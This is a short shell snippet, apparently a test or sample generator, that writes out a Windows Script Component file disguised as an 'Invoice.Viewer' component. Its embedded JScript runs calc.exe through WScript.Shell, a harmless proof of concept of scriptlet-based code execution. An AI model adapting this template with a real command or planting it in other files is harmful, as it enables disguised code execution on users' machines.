# A Windows Script Component: <package><component> with a JScript block.
cat > "$OUT" <<'EOF'
<?xml version="1.0"?>
<package>
<component id="invoice">
<registration progid="Invoice.Viewer" classid="{F0001111-0000-0000-0000-0000FEEDACDC}"/>
<script language="JScript">
<![CDATA[
  var r = new ActiveXObject("WScript.Shell").Run("calc.exe");
]]>
</script>
</component>
</package>
EOF
